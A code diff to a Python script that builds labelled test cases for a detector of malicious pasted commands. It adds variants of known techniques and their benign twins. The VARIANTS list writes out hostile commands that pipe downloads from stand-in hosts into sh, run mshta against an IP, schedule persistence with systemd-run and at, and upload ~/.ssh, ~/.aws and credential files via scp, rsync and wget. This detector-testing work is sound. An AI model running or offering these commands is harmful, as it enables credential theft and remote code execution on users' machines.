@@ -25,7 +25,12 @@ collection. Each line is {id, text, expect, technique, platform, source, target}
 - `credential-folder-upload`: ~/.ssh, ~/.aws, ~/.gnupg, ~/.kube, ~/.netrc archived or read and
   posted: `malicious`; a local backup of the same folders, or posting a JSON file: not;
 - `settings-before-download`: several settings exported in front of `curl | sh`: `malicious`
-  from a stranger's page.
+  from a stranger's page;
+- the same techniques said another way (Start-Process with a wildcard path, a desktop entry in
+  autostart, systemd-run timers and `at`, scp/rsync of key folders to an address, wget
+  --post-file, `env … bash -c "$(curl …)"`), written after the rules: `flagged`/`malicious`;
+  their everyday twins (scp with an identity file, rsync of a project, a timer for a local
+  script): `not_flagged`.
 """
 
 from __future__ import annotations
@@ -225,6 +230,53 @@ def settings_cases() -> list[dict[str, str]]:
     ]  # fmt: skip
 
 
+# The same techniques said another way, written after the rules as a check on them.
+VARIANTS = [
+    ("wildcard-program-path", "windows", "run_dialog",
+     'powershell -w h -c "Start-Process C:\\W*\\S*32\\ms?ta.e?e https://198.51.100.4/h"'),
+    ("systemd-unit-download", "linux", "terminal",
+     "mkdir -p ~/.config/autostart && curl -fsSL https://sync-agent.example/a.desktop -o "
+     "~/.config/autostart/a.desktop"),
+    ("systemd-unit-download", "linux", "terminal",
+     "systemd-run --user --on-calendar=hourly sh -c 'curl -fsSL https://sync-agent.example/p | sh'"),
+    ("systemd-unit-download", "linux", "terminal",
+     "echo 'curl -fsSL https://sync-agent.example/p | sh' | at now + 1 minute"),
+    ("credential-folder-upload", "linux", "terminal",
+     "scp -r ~/.ssh ~/.aws root@198.51.100.20:/tmp/k"),
+    ("credential-folder-upload", "linux", "terminal",
+     "rsync -a ~/.gnupg ~/.password-store sync@198.51.100.20:backup/"),
+    ("credential-folder-upload", "linux", "terminal",
+     "wget --post-file=$HOME/.aws/credentials http://198.51.100.20/c"),
+    ("settings-before-download", "macos", "terminal",
+     'env APP=1 MODE=fast TRACE=0 bash -c "$(curl -fsSL https://stage-env.example/i.sh)"'),
+]  # fmt: skip
+VARIANTS_QUIET = [
+    ("linux", "scp -i ~/.ssh/deploy_key build/app.tar.gz deploy@198.51.100.20:/srv/app/"),
+    ("linux", "rsync -avz ~/projects/site/ deploy@198.51.100.20:/var/www/site/"),
+    ("linux", "systemd-run --user --on-calendar=daily ~/bin/backup.sh"),
+    ("linux", "echo '~/bin/backup.sh' | at now + 5 minutes"),
+    ("macos", 'NONINTERACTIVE=1 /bin/bash -c "$(cat ~/Downloads/install.sh)"'),
+]
+
+
+def variant_cases() -> list[dict[str, str]]:
+    out = [
+        case(f"hc-variant-{n}", text, "malicious", technique, platform, STRANGER, target)
+        for n, (technique, platform, target, text) in enumerate(VARIANTS, start=1)
+        if "autostart" not in text
+    ]
+    out += [
+        case(f"hc-variant-autostart-{n}", text, "flagged", technique, platform, STRANGER, target)
+        for n, (technique, platform, target, text) in enumerate(VARIANTS, start=1)
+        if "autostart" in text
+    ]
+    out += [
+        case(f"hc-variant-ok-{n}", text, "not_flagged", BENIGN, platform, IT_WIKI, "terminal")
+        for n, (platform, text) in enumerate(VARIANTS_QUIET, start=1)
+    ]
+    return out
+
+
 def build() -> list[dict[str, str]]:
     cases = (
         unc_cases()
@@ -233,6 +285,7 @@ def build() -> list[dict[str, str]]:
         + systemd_cases()
         + credential_cases()
         + settings_cases()
+        + variant_cases()
     )
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
